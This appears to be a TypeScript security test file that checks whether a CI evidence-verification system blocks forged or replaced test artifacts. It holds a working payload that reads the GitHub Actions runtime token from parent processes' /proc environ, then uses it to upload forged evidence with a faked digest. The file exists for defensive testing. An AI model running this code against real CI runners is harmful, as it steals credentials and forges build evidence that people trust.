import { type Attack, blocked } from '../../support/attack/attack.ts';
import { unpacked, zipIn } from '../../support/attack/moves.ts';
import { GREEN_TESTS } from '../../support/attack/victim.ts';
import { zipOf } from '../../support/trusted-run.ts';

/**
 * Reads the token of the artifact service from the step above, which is of the same user; uploads forged evidence under the very name before
 * the step does, and tells its digest in the log as the step would.
 */
const thief = (zip: string) => `
const { readFileSync } = await import('node:fs');
const { createHash } = await import('node:crypto');
const stat = (pid) => readFileSync('/proc/' + pid + '/stat', 'utf8').split(') ')[1].split(' ')[1];
let env = {};
for (let pid = process.ppid; pid > 1 && !env.ACTIONS_RUNTIME_TOKEN; pid = Number(stat(pid))) {
  env = Object.fromEntries(readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0').map((pair) => pair.split(/=(.*)/s).slice(0, 2)));
}
const claims = JSON.parse(Buffer.from(env.ACTIONS_RUNTIME_TOKEN.split('.')[1], 'base64url'));
const [, run, job] = /Actions\\.Results:([0-9a-f-]+):([0-9a-f-]+)/.exec(claims.scp);
const ids = { workflow_run_backend_id: run, workflow_job_run_backend_id: job, name: 'receipt~default~~1' };
const ask = async (method, body) => {
  const url = env.ACTIONS_RESULTS_URL + 'twirp/github.actions.results.api.v1.ArtifactService/' + method;
  const headers = { authorization: 'Bearer ' + env.ACTIONS_RUNTIME_TOKEN, 'content-type': 'application/json' };
  return await (await fetch(url, { method: 'POST', headers, body: JSON.stringify({ ...ids, ...body }) })).json();
};
const zip = Buffer.from('${zip}', 'base64');
const { signed_upload_url } = await ask('CreateArtifact', { version: 7 });
await fetch(signed_upload_url, { method: 'PUT', body: zip });
const sha256 = createHash('sha256').update(zip).digest('hex');
await ask('FinalizeArtifact', { size: String(zip.length), hash: 'sha256:' + sha256 });
console.log('receipt-evidence receipt~default~~1 sha256:' + sha256);
`;

export default {
  'to hand over forged evidence in the place of the real one': blocked('incomplete', 'jobs-unexpected', async (world) => {
    // What the forger would have to make up: evidence of this very commit, as if its tests passed.
    const forged = `${GREEN_TESTS}if (process.env.STEAL) await import('./thief.mjs');\n`;
    world.push({ 'cart.test.mjs': forged });
    await world.runSuite();
    const zip = zipIn(world);
    world.nothingRan();
    await world.runSuite({ env: { STEAL: '1' }, before: ({ write }) => write({ 'thief.mjs': thief(zip.toString('base64')) }) });
  }),
  'to replace the evidence later': blocked('incomplete', 'artifact-mismatch', async (world) => {
    const files = await unpacked(zipIn(world));
    const [artifact] = world.artifacts;
    if (artifact !== undefined) artifact.zip = zipOf(new Map([...files, ['log.txt', Buffer.from('x')]]));
  }),
} satisfies Attack;
